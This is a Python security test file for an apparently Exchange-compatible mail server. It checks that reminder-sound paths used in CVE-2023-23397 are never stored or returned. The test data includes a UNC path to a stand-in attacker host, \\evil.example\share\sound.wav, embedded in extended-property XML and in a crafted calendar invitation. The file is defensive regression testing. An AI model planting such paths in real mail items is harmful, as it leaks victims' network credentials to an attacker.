"""Attack A20: no path on a network leads anywhere, and none is handed on to who would follow it.

That there is no document library on devices: ``tests/eas/test_item_operations.py``,
``tests/eas/test_items_and_search.py``.
"""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest

from tests.lessons.conftest import INBOX, change, codes, ids_in, new, receive
from tests.security.house import House, opened

pytestmark = pytest.mark.anyio
_PATH = r"\\evil.example\share\sound.wav"
_URIS = (
    '<t:ExtendedFieldURI DistinguishedPropertySetId="Common" PropertyId="34079"'
    ' PropertyType="String"/>',
    '<t:ExtendedFieldURI PropertySetId="00062008-0000-0000-c000-000000000046"'
    ' PropertyId="34079" PropertyType="String"/>',
)
_ICAL = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:a20\r\n"
    "DTSTAMP:20261001T000000Z\r\nDTSTART:20261005T080000Z\r\nDTEND:20261005T090000Z\r\n"
    "SUMMARY:Plan\r\nORGANIZER:mailto:x@elsewhere.example\r\n"
    "ATTENDEE:mailto:anna@demo.example\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT15M\r\n"
    f"ATTACH;FMTTYPE=audio/wav:file:{_PATH}\r\nEND:VALARM\r\n"
    f"X-MICROSOFT-REMINDERFILE:{_PATH}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


async def _shown(house: House, id: str, uri: str) -> str:
    return await house.ask(
        f"<m:GetItem><m:ItemShape><t:BaseShape>AllProperties</t:BaseShape>"
        f"<t:IncludeMimeContent>true</t:IncludeMimeContent><t:AdditionalProperties>{uri}"
        f'</t:AdditionalProperties></m:ItemShape><m:ItemIds><t:ItemId Id="{id}"/></m:ItemIds>'
        "</m:GetItem>"
    )


@pytest.mark.parametrize("uri", _URIS)
async def test_attack_a20_the_sound_of_a_reminder_is_never_kept(tmp_path: Path, uri: str) -> None:
    """CVE-2023-23397: made with an item, set later, in either spelling of its name."""
    value = f"<t:ExtendedProperty>{uri}<t:Value>{_PATH}</t:Value></t:ExtendedProperty>"
    async with opened(tmp_path, "anna", "ben") as house:
        made = await new(house, more=value)
        later = await new(house)
        update = f"<t:SetItemField>{uri}<t:Message>{value}</t:Message></t:SetItemField>"
        assert codes(await change(house, later, update)) == ["NoError"]
        for id in (made, later):
            shown = await _shown(house, id, uri)
            assert codes(shown) == ["NoError"] and "evil.example" not in shown
        rows = str(house.rows("anna"))
        assert "evil.example" not in rows


async def test_attack_a20_nor_that_of_an_invitation(tmp_path: Path) -> None:
    """The message stays as it came, as all mail does; what the calendar makes of it has no path."""
    mime = (
        "From: x@elsewhere.example\r\nTo: anna@demo.example\r\nSubject: Plan\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n"
    ) + _ICAL
    async with opened(tmp_path, "anna", "ben") as house:
        await receive(house, mime.encode())
        assert len(await ids_in(house, INBOX)) == 1
        (event,) = await ids_in(house, '<t:DistinguishedFolderId Id="calendar"/>')
        shown = await _shown(house, event, _URIS[0])
        found = re.search(r"<t:MimeContent[^>]*>([^<]+)", shown)
        assert found is not None
        written = base64.b64decode(found[1]).decode()
        assert "BEGIN:VEVENT" in written and "evil.example" not in written
        assert "evil.example" not in shown
